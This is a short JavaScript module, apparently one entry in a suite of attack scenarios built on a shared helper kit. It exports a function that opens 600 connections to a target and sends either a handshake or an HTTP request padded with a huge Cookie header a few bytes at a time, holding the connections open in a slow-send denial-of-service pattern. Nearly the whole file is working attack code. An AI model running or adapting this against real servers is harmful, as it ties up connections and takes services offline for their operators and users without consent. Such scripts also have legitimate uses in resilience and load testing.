// A request, a letter at a time.
import { crowd, handshake, pause, push, request } from '../kit.mjs';

export const about = '600 connections send a request a few bytes a second';

export const attack = (target) =>
  crowd(target, 600, async (life) => {
    const socket = await life.open();
    const text = life.id % 2 ? handshake({ port: target.port }) : request(target, '/', [`Cookie: ${'a=b; '.repeat(400)}`]);
    for (let at = 0; at < text.length && !socket.destroyed; at += 3) {
      await push(socket, text.slice(at, at + 3));
      await pause(300);
    }
  });
